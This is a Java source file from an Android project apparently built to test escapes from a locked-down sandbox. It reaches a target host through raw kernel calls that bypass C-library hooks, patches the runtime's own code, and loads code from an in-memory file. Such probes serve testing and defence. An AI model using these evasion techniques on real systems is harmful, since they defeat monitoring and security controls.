package com.lockroom.escape.tricks;

import android.content.Context;
import com.lockroom.escape.Attempts;
import com.lockroom.escape.Target;
import com.lockroom.escape.Trick;

/**
 * The kernel's calls themselves, which no hook in the C library sees: by a library's code, and where none can be loaded, by
 * code written over the runtime's own.
 */
public final class Syscalls implements Trick {
    private final Context context;

    public Syscalls(Context context) {
        this.context = context;
    }

    @Override
    public void go(Attempts attempts, Target target, String value) {
        byte[] line = Wire.line("syscalls", value);
        attempts.one("load", () -> Native.load(context));
        attempts.one("connect", () -> Native.said(Native.rawConnect(Wire.internet(target.host, target.tcp), line)));
        attempts.one("sendto", () -> Native.said(Native.rawSendto(Wire.internet(target.host, target.udp), line)));
        attempts.one("fastopen", () -> Native.said(Native.rawFastOpen(Wire.internet(target.host, target.tcp), line)));
        attempts.one("fork", () -> Native.said(Native.rawFork(Wire.internet(target.host, target.tcp), line)));
        attempts.one("ring", () -> Native.said(Native.rawRing()));
        attempts.one("code", () -> {
            try (Patch.Gate gate = Patch.gate()) {
                written(attempts, gate, target, line);
                return "written";
            }
        });
    }

    private void written(Attempts attempts, Patch.Gate gate, Target target, byte[] line) {
        attempts.one("written connect", () -> Native.said(gate.connect(Wire.internet(target.host, target.tcp), line)));
        attempts.one("written sendto", () -> Native.said(gate.sendto(Wire.internet(target.host, target.udp), line, 2, 0)));
        attempts.one("written fastopen", () ->
                Native.said(gate.sendto(Wire.internet(target.host, target.tcp), line, 1, Patch.FAST_OPEN)));
        attempts.one("written message", () -> Native.said(gate.sendmsg(Wire.internet(target.host, target.udp), line)));
        attempts.one("written ring", () -> Native.said(gate.call(Patch.IO_URING_SETUP, 4, gate.put(new byte[120]))));
        attempts.one("written file in memory", () -> {
            long fd = gate.call(Patch.MEMFD_CREATE, gate.put(new byte[] {'w', 0}), 0);
            Native.said(fd);
            return Native.load(context, "/proc/self/fd/" + fd);
        });
    }
}
